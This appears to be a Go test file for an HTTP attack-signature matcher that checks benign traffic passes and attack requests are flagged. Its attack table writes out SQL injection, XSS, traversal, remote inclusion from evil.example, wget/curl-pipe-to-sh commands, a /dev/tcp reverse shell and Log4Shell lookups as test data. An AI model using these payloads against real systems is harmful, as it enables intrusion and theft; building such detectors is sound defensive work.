package patterns

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// req builds a Request from a raw request target ("/path?query"), a user
// agent and a referer.
func req(method, target, ua, ref string) *Request {
	r := &Request{Method: []byte(method), UA: []byte(ua), Referer: []byte(ref)}
	if i := strings.IndexByte(target, '?'); i >= 0 {
		r.Path, r.Query = []byte(target[:i]), []byte(target[i+1:])
	} else {
		r.Path = []byte(target)
	}
	return r
}

func mustCompile(t testing.TB, opts Options) *Matcher {
	t.Helper()
	m, err := Compile(opts)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

func ids(hits []Hit) []string {
	var out []string
	for _, h := range hits {
		out = append(out, h.ID)
	}
	return out
}

func total(hits []Hit) int {
	w := 0
	for _, h := range hits {
		w += h.Weight
	}
	return w
}

const browserUA = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36"

// TestBenign is traffic real users and tools send. None of it may get a
// hit: a weak hit on every page view adds up to a ban within ten minutes.
func TestBenign(t *testing.T) {
	m := mustCompile(t, Options{})
	targets := []string{
		// searches
		"/search?q=O%27Reilly", "/search?q=o'reilly+books", "/search?q=select+a+size", "/search?q=union+jack",
		"/search?q=%3Cb%3E", "/search?q=%3Cb%3Ebold%3C%2Fb%3E", "/search?q=rock+%26+roll", "/search?q=rock+&+roll",
		"/search?q=1%3D1+fashion", "/search?q=men%27s+shoes", "/search?q=drop+dead+gorgeous", "/search?q=what%27s+new%3F",
		"/search?q=dog%7Ccat", "/search?q=tom%3B+cat+videos", "/search?q=sleep+mask", "/search?q=t-shirt+-sale",
		"/search?q=%22quoted+phrase%22", "/search?q=c%23+tutorial", "/search?q=...", "/search?q=order+by+price",
		"/search?q=4+or+5+stars", "/search?q=null+and+void", "/search?q=it%27s+5%22+tall", "/search?q=l%27or%C3%A9al+paris",
		"/search?q=javascript+tutorial", "/search?q=100%25+cotton", "/search?q=50%+off", "/search?q=a+%3C+b",
		"/search?q=%3C3", "/search?q=cat+%26+dog+toys", "/search?q=the+%27best%27+deals", "/search?q=hello+--+world",
		// e-commerce and SPA
		"/products?filter%5Bprice%5D=10-20&sort=-price", "/cart/add?id=123&qty=1", "/checkout?step=2",
		"/api/v1/items?page=2&sort=name", "/api/graphql?query=%7Buser(id%3A1)%7Bname%7D%7D",
		"/api/items?filter=%7B%22a%22%3A1%7D", "/login?next=%2Fapp%2Fsettings",
		"/oauth/authorize?response_type=code&client_id=abc&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&scope=openid%20profile&state=xyz",
		"/?utm_source=newsletter&utm_medium=email&utm_campaign=spring_sale--2024",
		"/events?from=2024-01-01T00:00:00%2B01:00&to=2024-01-31", "/share?url=https%3A%2F%2Fexample.com%2Fa%3Fb%3D1",
		"/redirect?to=https://example.com/page.html?x=1", "/api/v2/users/me?fields=id,name,email",
		"/wp-login.php?redirect_to=https%3A%2F%2Fsite.com%2Fwp-admin%2Fadmin.php%3F&reauth=1",
		"/track?url=https%3A%2F%2Fsite.example%2Fpage%3Fonload%3D1", "/search?q=select+*+from+users",
		"/forum?topic=etc%2Fhosts+file+explained",
		"/static/js/main.3f2a.js", "/static/css/app.3f2a.css", "/assets/index-BxA1.css", "/_next/static/chunks/pages/_app-abc.js",
		"/favicon.ico", "/robots.txt", "/sitemap.xml", "/apple-touch-icon.png", "/manifest.webmanifest",
		"/fonts/inter.woff2", "/images/logo@2x.png", "/downloads/manual.pdf", "/downloads/release-1.2.tar.gz",
		"/docs/install.html", "/blog/2024/05/hello-world/", "/feed.xml", "/ads.txt", "/security.txt",
		"/.well-known/security.txt", "/.well-known/acme-challenge/FMuukC2JOJ5HKmLBujjE_BkDo", "/.well-known/openid-configuration",
		// Nextcloud, including a synced developer folder
		"/remote.php/dav/files/alice/Projects/app/.git/HEAD", "/remote.php/dav/files/alice/Projects/app/.env",
		"/remote.php/webdav/Backup/site.zip", "/remote.php/dav/files/alice/What%3F.txt",
		"/ocs/v2.php/apps/notifications/api/v2/notifications?format=json",
		"/index.php/apps/files/?dir=/Photos&fileid=123", "/status.php", "/.well-known/caldav", "/.well-known/carddav",
		"/index.php/core/preview?fileId=42&x=256&y=256&a=true", "/apps/files_sharing/publicpreview/abc?file=%2Fbackup.zip",
		"/index.php/apps/mail/api/avatars/url/noreply%40test.fr",
		// Immich, Jellyfin
		"/api/assets/0f3b9c2e-1111-2222-3333-444455556666/thumbnail?size=preview", "/api/server/ping", "/api/albums?shared=true",
		"/Videos/abc/stream.mp4?Static=true&mediaSourceId=abc&api_key=xyz",
		"/Items/abc/Images/Primary?fillHeight=396&fillWidth=264&quality=96&Tags=null",
		"/socket?api_key=abc&deviceId=xyz",
		"/Users/abc/Items/Resume?Limit=12&MediaTypes=Video&Fields=PrimaryImageAspectRatio,BasicSyncInfo",
		// WordPress administered by its owner
		"/wp-admin/post.php?post=12&action=edit", "/wp-admin/admin-ajax.php", "/wp-json/wp/v2/posts?_locale=user",
		"/wp-admin/load-scripts.php?c=1&load%5Bchunk_0%5D=jquery-core,jquery-migrate,utils&ver=6.4.2",
		"/wp-admin/plugin-install.php?s=seo&tab=search&type=term",
		"/wp-admin/theme-editor.php?file=functions.php&theme=twentytwentyfour",
		"/wp-admin/plugins.php?action=activate&plugin=akismet%2Fakismet.php&_wpnonce=abc",
		"/wp-cron.php?doing_wp_cron=1700000000.1234", "/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.8",
		"/wp-login.php?action=logout&_wpnonce=abc", "/wp-admin/options-general.php?page=wpseo_dashboard",
		"/wp-admin/customize.php?return=%2Fwp-admin%2Fthemes.php", "/xmlrpc.php?rsd", "/wp-login.php",
		"/wp-content/uploads/2024/05/photo-1024x768.jpg",
		// repository browsers
		"/alice/repo/src/branch/main/.env.example", "/alice/repo/raw/branch/main/.gitignore",
		"/alice/repo/src/branch/main/.env", "/group/project/-/blob/main/.gitlab-ci.yml",
		// Grafana, Apache icons, cgi-bin apps
		"/public/plugins/grafana-clock-panel/img/logo.svg", "/icons/folder.gif", "/cgi-bin/koha/opac-main.pl",
		"/cgi-bin/nagios/status.cgi?host=all", "/smokeping/smokeping.cgi?target=Local",
		"/setup/", "/admin/setup/index.html", "/think/about-us", "/union-square-hotel", "/shell-company-news",
	}
	uas := []string{
		browserUA,
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
		"Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)",
		"curl/8.5.0", "Wget/1.21.3", "python-requests/2.31.0", "Go-http-client/1.1", "",
		"Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
		"Mozilla/5.0 (Linux) mirall/3.12.0 (build 20240301) (Nextcloud, debian-6.1 ClientArchitecture: x86_64 OsArchitecture: x86_64)",
		"Nextcloud-android/3.28.0", "Immich_Android_1.100.0", "Swiftfin%20tvOS/70 CFNetwork/1490.0.4>",
		"facebookexternalhit/1.1 (+http://www.facebook.com/externalhit_uatext.php)", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
		"Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)", "kube-probe/1.29", "Prometheus/2.50.1",
		"Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
	}
	refs := []string{"", "https://www.google.com/search?q=how+to+sleep+better", "https://example.com/search?q=O%27Reilly",
		"android-app://com.google.android.gm/"}
	for _, target := range targets {
		for _, method := range []string{"GET", "PROPFIND"} {
			if method == "PROPFIND" && !strings.HasPrefix(target, "/remote.php/") {
				continue
			}
			r := req(method, target, browserUA, refs[1])
			if hits := served(m, r); len(hits) > 0 {
				t.Errorf("%s %s: unexpected hits %v", method, target, ids(hits))
			}
		}
	}
	for _, ua := range uas {
		for _, ref := range refs {
			if hits := m.Match(req("GET", "/", ua, ref), nil); len(hits) > 0 {
				t.Errorf("UA %q referer %q: unexpected hits %v", ua, ref, ids(hits))
			}
		}
	}
}

// TestWeakOnly is benign traffic that may earn a weak hint, never 5 points.
func TestWeakOnly(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, target := range []string{
		"/search?q=how+to+use+sleep()+in+bash", "/search?q=md5(password)", "/search?q=javascript:void(0)",
		"/search?q=%3Cimg+tag+tutorial", "/docs?q=alert()+vs+console.log()",
		"/report?sort=upper(name)", "/wp-content/plugins/akismet/readme.txt",
	} {
		hits := m.Match(req("GET", target, browserUA, ""), nil)
		if w := total(hits); w >= 5 {
			t.Errorf("%s: weight %d %v, want < 5", target, w, ids(hits))
		}
	}
}

// TestAttacks: each request must hit the named signature, and the sum of
// its hits must reach minWeight.
func TestAttacks(t *testing.T) {
	m := mustCompile(t, Options{})
	tests := []struct {
		target, ua, ref string
		want            string
		minWeight       int
	}{
		// SQL injection, raw, encoded, double-encoded
		{"/item?id=1%27%20OR%20%271%27%3D%271", "", "", "sqli-libinjection", 10},
		{"/item?id=1'+or+'1'='1", "", "", "sqli-libinjection", 10},
		{"/item?id=1+UNION+SELECT+username,password+FROM+users--", "", "", "sqli-union-select", 10},
		{"/item?id=1%2527%2520OR%25201%253D1--", "", "", "sqli-libinjection", 10},
		{"/item?id=1%20AND%20SLEEP(5)", "", "", "sqli-blind-function", 10},
		{"/item?id=-1+union+all+select+1,load_file(0x2f6574632f706173737764),3", "", "", "sqli-file-access", 10},
		{"/item?cat=2&id=1/**/UNION/**/SELECT/**/1,2,3", "", "", "sqli-union-select", 10},
		{"/foo?a=information_schema.tables", "", "", "sqli-schema-probe", 5},
		// XSS
		{"/search?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", "", "", "xss-libinjection", 10},
		{"/search?q=%22%3E%3Csvg%2Fonload%3Dalert(1)%3E", "", "", "xss-libinjection", 10},
		{"/search/%3Cscript%3Ealert(1)%3C/script%3E", "", "", "xss-libinjection", 10},
		{"/go?url=javascript:alert(document.cookie)", "", "", "xss-javascript-uri", 4},
		{"/p?x=%22%20onmouseover%3Dalert(1)%20x%3D%22", "", "", "xss-libinjection", 10},
		{"/p?x=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E", "", "", "xss-libinjection", 10},
		// traversal and file inclusion
		{"/download?file=../../../../etc/passwd", "", "", "traversal-dotdot-deep", 20},
		{"/static/..%252f..%252f..%252fetc/passwd", "", "", "traversal-dotdot-deep", 20},
		{"/index.php?page=..%5C..%5C..%5Cwindows%5Cwin.ini", "", "", "lfi-windows-file", 20},
		{"/a/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "", "", "traversal-dotdot-deep", 20},
		{"/a/%u002e%u002e/%u002e%u002e/%u002e%u002e/etc/shadow", "", "", "traversal-dotdot-deep", 20},
		{"/img?f=....//....//....//etc/passwd", "", "", "traversal-dotdot-deep", 20},
		{"/index.php?file=php://filter/convert.base64-encode/resource=index.php", "", "", "lfi-php-wrapper", 10},
		{"/file.php?f=/etc/passwd%00.jpg", "", "", "traversal-null-byte", 15},
		{"/..;/..;/..;/WEB-INF/web.xml", "", "", "traversal-dotdot-deep", 10},
		{"/page?lang=../../../../usr/local/lib/php/pearcmd", "", "", "lfi-pearcmd", 10},
		// remote file inclusion
		{"/index.php?page=http://evil.example/shell.txt?", "", "", "rfi-url-include", 10},
		{"/index.php?page=http%3A%2F%2Fevil.example%2Fs.txt%3F%3F", "", "", "rfi-url-include", 10},
		// command injection
		{"/ping.php?ip=127.0.0.1;cat+/etc/passwd", "", "", "cmdi-shell-command", 10},
		{"/ping.php?ip=%7Cuname+-a", "", "", "cmdi-shell-command", 10},
		{"/q?host=%60id%60", "", "", "cmdi-shell-command", 10},
		{"/q?x=$(curl+http://x.example/a.sh|sh)", "", "", "cmdi-shell-command", 10},
		{"/q?x=1%0awget+http://1.2.3.4/x+-O+/tmp/x", "", "", "cmdi-shell-command", 10},
		{"/q?x=cat${IFS}/etc/passwd", "", "", "cmdi-ifs", 10},
		{"/", "() { :; }; /bin/bash -c 'wget http://x.example/a -O /tmp/a'", "", "shellshock-function", 10},
		{"/q?x=bash+-i+>%26+/dev/tcp/10.0.0.1/4444+0>%261", "", "", "cmdi-reverse-shell", 10},
		// Log4Shell in every field, obfuscated too
		{"/", "${jndi:ldap://x.example/a}", "", "log4shell-jndi", 10},
		{"/%24%7Bjndi%3Aldap%3A%2F%2Fx.example%2Fa%7D", "", "", "log4shell-jndi", 10},
		{"/?x=%24%7Bjndi%3Armi%3A%2F%2Fx%2Fa%7D", "", "", "log4shell-jndi", 10},
		{"/", browserUA, "${${lower:j}ndi:ldap://x/a}", "log4shell-jndi", 10},
		{"/", "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}", "", "log4shell-jndi", 10},
		{"/", "${env:AWS_SECRET_ACCESS_KEY}", "", "log4shell-lookup", 10},
		// webshells
		{"/wp-content/uploads/c99.php", "", "", "webshell-known-name", 10},
		{"/shell.php?cmd=id", "", "", "webshell-cmd-param", 10},
		{"/images/x_shell.aspx", "", "", "webshell-shell-name", 10},
		{"/.well-known/pki-validation/xmrlpc.php", "", "", "webshell-well-known-php", 10},
		// CVE paths
		{"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "", "cve-2017-9841-phpunit", 10},
		{"/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh", "", "", "cve-2021-41773-apache-traversal", 10},
		{"/cgi-bin/%%32%65%%32%65/%%32%65%%32%65/bin/sh", "", "", "cve-2021-41773-apache-traversal", 10},
		{`/index.php?s=/Index/\think\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id`, "", "", "cve-2018-20062-thinkphp", 10},
		{"/_ignition/execute-solution", "", "", "cve-2021-3129-laravel-ignition", 10},
		{"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "", "", "cve-2022-22965-spring4shell", 10},
		{"/public/plugins/alertlist/../../../../../../../../etc/passwd", "", "", "cve-2021-43798-grafana", 10},
		{"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "", "", "cve-2020-5902-f5", 10},
		{"/mgmt/tm/util/bash", "", "", "cve-2022-1388-f5", 10},
		{"/?unix:AAAAAAAAAAAAAAAAAAAAAAAA|http://x.example/", "", "", "cve-2021-40438-apache-ssrf", 10},
		{"/cgi-bin/php-cgi?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "", "", "cve-2012-1823-php-cgi", 10},
		{"/wp-admin/admin-ajax.php?action=revslider_show_image&img=../wp-config.php", "", "", "lfi-app-config", 10},
		{"/?a=fetch&content=%3Cphp%3Edie(@md5(HelloThinkCMF))%3C/php%3E", "", "", "cve-2018-20062-thinkphp", 10},
		{"/ws/v1/cluster/apps/new-application", "", "", "hadoop-yarn-rce", 10},
		{"/v1.24/containers/json", "", "", "probe-docker-api", 5},
		{"/?XDEBUG_SESSION_START=phpstorm", "", "", "probe-xdebug", 5},
		{"/shell?cd+/tmp;rm+-rf+*;wget+http://1.2.3.4/x.sh;sh+x.sh", "", "", "cmdi-shell-command", 10},
		{"/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://x/a+-O-|sh%60)", "", "", "cve-2023-1389-tplink", 20},
		// sensitive files
		{"/.env", "", "", "sensitive-env-file", 5},
		{"/api/.env.production", "", "", "sensitive-env-file", 5},
		{"/.git/config", "", "", "sensitive-vcs", 5},
		{"/wp-config.php~", "", "", "sensitive-wp-config", 5},
		{"/.DS_Store", "", "", "sensitive-ds-store", 5},
		{"/id_rsa", "", "", "sensitive-ssh-key", 5},
		{"/server-status", "", "", "sensitive-server-status", 5},
		{"/phpinfo.php", "", "", "sensitive-phpinfo", 5},
		{"/backup.zip", "", "", "sensitive-backup-archive", 5},
		{"/example.com.tar.gz", "", "", "sensitive-backup-archive", 5},
		{"/db.sql", "", "", "sensitive-backup-archive", 5},
		{"/.aws/credentials", "", "", "sensitive-credentials", 5},
		{"/config.php.bak", "", "", "sensitive-config-backup", 5},
		{"/wp-content/debug.log", "", "", "sensitive-log-file", 5},
		{"/actuator/env", "", "", "sensitive-actuator", 5},
		{"/WEB-INF/web.xml", "", "", "sensitive-web-inf", 5},
		{"/.bash_history", "", "", "sensitive-shell-history", 5},
		// probes
		{"/+CSCOE+/logon.html", "", "", "probe-vpn-appliance", 5},
		{"http://www.sbjudge4.com:80/ip4.php", "", "", "probe-open-proxy", 10},
		// scanners, callbacks
		{"/", "sqlmap/1.7.2#stable (https://sqlmap.org)", "", "ua-sqlmap", 10},
		{"/", "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:Port Check)", "", "ua-nikto", 10},
		{"/", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", "", "ua-nuclei", 10},
		{"/", "Mozilla/5.0 zgrab/0.x", "", "ua-zgrab", 10},
		{"/", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "", "ua-masscan", 10},
		{"/", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)", "", "ua-wpscan", 10},
		{"/", "gobuster/3.6", "", "ua-gobuster", 10},
		{"/", "Fuzz Faster U Fool v2.1.0-dev", "", "ua-ffuf", 10},
		{"/", "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)", "", "ua-dirbuster", 10},
		{"/", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Acunetix", "", "ua-acunetix", 10},
		{"/", "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0) Nessus", "", "ua-nessus", 10},
		{"/", "Mozilla/5.0 [en] (X11, U; OpenVAS-VT 21.4.4)", "", "ua-openvas", 10},
		{"/", "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)", "", "ua-nmap", 10},
		{"/", "ZmEu", "", "ua-zmeu", 10},
		{"/", "feroxbuster/2.10.1", "", "ua-feroxbuster", 10},
		{"/?x=abc.oastify.com", "", "", "scanner-oast-domain", 10},
		{"/", browserUA, "http://x.interact.sh/", "scanner-oast-domain", 10},
	}
	for _, tt := range tests {
		hits := m.Match(req("GET", tt.target, tt.ua, tt.ref), nil)
		if !slices.Contains(ids(hits), tt.want) {
			t.Errorf("%s ua=%q ref=%q: hits %v, want %s", tt.target, tt.ua, tt.ref, ids(hits), tt.want)
			continue
		}
		if w := total(hits); w < tt.minWeight {
			t.Errorf("%s ua=%q: total weight %d %v, want >= %d", tt.target, tt.ua, w, ids(hits), tt.minWeight)
		}
	}
}

// TestHitsOnce: a signature found in several fields or parameters is
// reported once.
func TestHitsOnce(t *testing.T) {
	m := mustCompile(t, Options{})
	r := req("GET", "/%24%7Bjndi:ldap://a/b%7D?x=${jndi:ldap://a/b}&y=${jndi:dns://c}", "${jndi:ldap://a/b}", "${jndi:ldap://a/b}")
	got := ids(m.Match(r, nil))
	n := 0
	for _, id := range got {
		if id == "log4shell-jndi" {
			n++
		}
	}
	if n != 1 {
		t.Errorf("log4shell-jndi reported %d times: %v", n, got)
	}
	// Match appends to dst.
	dst := []Hit{{ID: "earlier"}}
	dst = m.Match(r, dst)
	if dst[0].ID != "earlier" || len(dst) < 2 {
		t.Errorf("Match did not append to dst: %v", ids(dst))
	}
}

func TestCatalogueEntries(t *testing.T) {
	cat := Catalogue()
	if len(cat) != len(catalogue) {
		t.Fatalf("Catalogue() has %d entries, catalogue %d", len(cat), len(catalogue))
	}
	seen := map[string]bool{}
	for _, in := range cat {
		if seen[in.ID] {
			t.Errorf("duplicate id %q", in.ID)
		}
		seen[in.ID] = true
		if !kebab(in.ID) {
			t.Errorf("id %q is not kebab-case", in.ID)
		}
		if in.Weight < 1 || in.Weight > 10 {
			t.Errorf("%s: weight %d outside 1..10", in.ID, in.Weight)
		}
		if in.Description == "" || in.Category == "" || in.Field < FieldPath || in.Field > FieldAny {
			t.Errorf("%s: incomplete entry %+v", in.ID, in)
		}
	}
	for _, d := range catalogue {
		hasLits := d.path != "" || d.query != "" || d.ua != "" || d.any != ""
		if !hasLits && d.check == chkNone {
			t.Errorf("%s: neither literals nor a check", d.id)
		}
		if (d.re != "" || d.not != "" || d.need != nil) && !hasLits {
			t.Errorf("%s: a regex or need without literals never runs", d.id)
		}
		// User agents and referers only see "any" literals of at least
		// minLitStride2 bytes; every such signature needs one.
		if d.any != "" && !slices.ContainsFunc(words(d.any), func(w string) bool { return len(w) >= minLitStride2 }) {
			t.Errorf("%s: no 'any' literal long enough for user agents and referers", d.id)
		}
	}
}

func kebab(s string) bool {
	if s == "" || s[0] == '-' || s[len(s)-1] == '-' || strings.Contains(s, "--") {
		return false
	}
	for _, c := range s {
		if !('a' <= c && c <= 'z' || '0' <= c && c <= '9' || c == '-') {
			return false
		}
	}
	return true
}

func TestCompileOptions(t *testing.T) {
	attack := req("GET", "/.env", "sqlmap/1.7", "")
	tests := []struct {
		name    string
		opts    Options
		wantErr string // substring; "" for success
		want    []string
	}{
		{name: "default", want: []string{"sensitive-env-file", "ua-sqlmap"}},
		{name: "disable id", opts: Options{DisabledIDs: []string{"ua-sqlmap"}}, want: []string{"sensitive-env-file"}},
		{name: "disable category", opts: Options{DisabledCategories: []Category{Scanner}}, want: []string{"sensitive-env-file"}},
		{name: "unknown id", opts: Options{DisabledIDs: []string{"ua-sqlmap", "no-such-id", "nope"}}, wantErr: `"no-such-id", "nope"`},
		{name: "unknown category", opts: Options{DisabledCategories: []Category{"sqlinjection"}}, wantErr: `"sqlinjection"`},
		{name: "user pattern", opts: Options{User: []UserPattern{{ID: "env-probe", Field: FieldPath, Regex: `^/\.ENV$`, Weight: 3}}},
			want: []string{"sensitive-env-file", "ua-sqlmap", "env-probe"}},
		{name: "user pattern in any field", opts: Options{User: []UserPattern{{ID: "sqlmap-any", Field: FieldAny, Regex: `sqlmap/`, Weight: 1, Category: "tools"}}},
			want: []string{"sensitive-env-file", "ua-sqlmap", "sqlmap-any"}},
		{name: "disable user category", opts: Options{DisabledCategories: []Category{"tools"},
			User: []UserPattern{{ID: "sqlmap-any", Field: FieldAny, Regex: `sqlmap/`, Weight: 1, Category: "tools"}}},
			want: []string{"sensitive-env-file", "ua-sqlmap"}},
		{name: "disable user id", opts: Options{DisabledIDs: []string{"env-probe"},
			User: []UserPattern{{ID: "env-probe", Field: FieldPath, Regex: `env`, Weight: 3}}},
			want: []string{"sensitive-env-file", "ua-sqlmap"}},
		{name: "bad regex", opts: Options{User: []UserPattern{{ID: "broken", Field: FieldPath, Regex: `(`}}}, wantErr: `"broken"`},
		{name: "duplicate user id", opts: Options{User: []UserPattern{{ID: "a", Field: FieldPath, Regex: `x`}, {ID: "a", Field: FieldPath, Regex: `y`}}}, wantErr: `"a": duplicate id`},
		{name: "user id clashes with built-in", opts: Options{User: []UserPattern{{ID: "ua-sqlmap", Field: FieldUA, Regex: `x`}}}, wantErr: `"ua-sqlmap"`},
		{name: "empty id", opts: Options{User: []UserPattern{{Field: FieldPath, Regex: `x`}}}, wantErr: "empty id"},
		{name: "bad field", opts: Options{User: []UserPattern{{ID: "f", Field: 42, Regex: `x`}}}, wantErr: `"f": unknown field`},
		{name: "negative weight", opts: Options{User: []UserPattern{{ID: "w", Field: FieldPath, Regex: `x`, Weight: -1}}}, wantErr: `"w": negative weight`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			m, err := Compile(tt.opts)
			if tt.wantErr != "" {
				if err == nil || !strings.Contains(err.Error(), tt.wantErr) {
					t.Fatalf("Compile error %v, want one containing %s", err, tt.wantErr)
				}
				return
			}
			if err != nil {
				t.Fatal(err)
			}
			if got := ids(m.Match(attack, nil)); !slices.Equal(got, tt.want) {
				t.Errorf("hits %v, want %v", got, tt.want)
			}
		})
	}
}

func TestUserPatternFields(t *testing.T) {
	m := mustCompile(t, Options{User: []UserPattern{
		{ID: "u-path", Field: FieldPath, Regex: `^/secret/`, Weight: 4},
		{ID: "u-query", Field: FieldQuery, Regex: `token=abc def`, Weight: 4},
		{ID: "u-uri", Field: FieldURI, Regex: `^/secret/x\?token=`, Weight: 4},
		{ID: "u-ua", Field: FieldUA, Regex: `badclient`, Weight: 4},
		{ID: "u-ref", Field: FieldReferer, Regex: `evil\.example`, Weight: 4},
	}})
	// The fields are normalised before user patterns see them: decoded,
	// slashes collapsed, '+' as space, case folded.
	r := req("GET", "//SECRET/%78?token=ABC+def", "BadClient/1.0", "https://EVIL.example/")
	got := ids(m.Match(r, nil))
	for _, want := range []string{"u-path", "u-query", "u-uri", "u-ua", "u-ref"} {
		if !slices.Contains(got, want) {
			t.Errorf("hits %v lack %s", got, want)
		}
	}
	if got := m.Match(req("GET", "/public", browserUA, ""), nil); len(got) != 0 {
		t.Errorf("benign request hit %v", ids(got))
	}
}

// TestMatchAllocs: the common case, a request with nothing to decode and
// nothing to report, allocates nothing.
func TestMatchAllocs(t *testing.T) {
	m := mustCompile(t, Options{})
	for _, bc := range benchRequests {
		if strings.HasPrefix(bc.name, "attack") || bc.name == "search-encoded" {
			continue
		}
		if raceEnabled && bc.name == "app-pages" {
			// Its words run confirming regexes, whose machines come from
			// regexp's own sync.Pool, which the race detector empties.
			continue
		}
		r := bc.r
		dst := make([]Hit, 0, 8)
		if n := testing.AllocsPerRun(200, func() { dst = m.Match(&r, dst[:0]) }); n != 0 {
			t.Errorf("%s: %v allocations per Match, want 0", bc.name, n)
		}
	}
	// Decoding uses pooled buffers: a percent-encoded benign request
	// without SQL-looking values allocates nothing either.
	if raceEnabled {
		t.Log("race detector on: sync.Pool drops items, pooled decoding not checked")
		return
	}
	r := req("GET", "/files/My%20Documents/report%202024.pdf", browserUA, "https://example.com/a%20b")
	if n := testing.AllocsPerRun(200, func() { m.Match(r, nil) }); n != 0 {
		t.Errorf("encoded benign request: %v allocations per Match, want 0", n)
	}
}

// TestConcurrentMatch: one Matcher serves many goroutines (run with -race);
// pooled buffers must not leak one request's bytes into another's verdict.
func TestConcurrentMatch(t *testing.T) {
	m := mustCompile(t, Options{User: []UserPattern{{ID: "u", Field: FieldURI, Regex: `/x\?y`, Weight: 1}}})
	reqs := []*Request{
		req("GET", "/a%20b?q=%27+or+1%3D1--", browserUA, ""),
		req("GET", "/static/app.css", browserUA, "https://example.com/"),
		req("GET", "/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "", ""),
		req("GET", "/x?y=%3Cscript%3E", "${jndi:x}", ""),
		req("GET", "/search?q=men%27s+shoes", browserUA, "https://example.com/a%20b"),
	}
	want := make([][]string, len(reqs))
	for i, r := range reqs {
		want[i] = ids(m.Match(r, nil))
	}
	done := make(chan string)
	for g := 0; g < 4; g++ {
		go func(g int) {
			for k := 0; k < 300; k++ {
				i := (g + k) % len(reqs)
				if got := ids(m.Match(reqs[i], nil)); !slices.Equal(got, want[i]) {
					done <- fmt.Sprintf("request %d: %v, want %v", i, got, want[i])
					return
				}
			}
			done <- ""
		}(g)
	}
	for g := 0; g < 4; g++ {
		if msg := <-done; msg != "" {
			t.Error(msg)
		}
	}
}
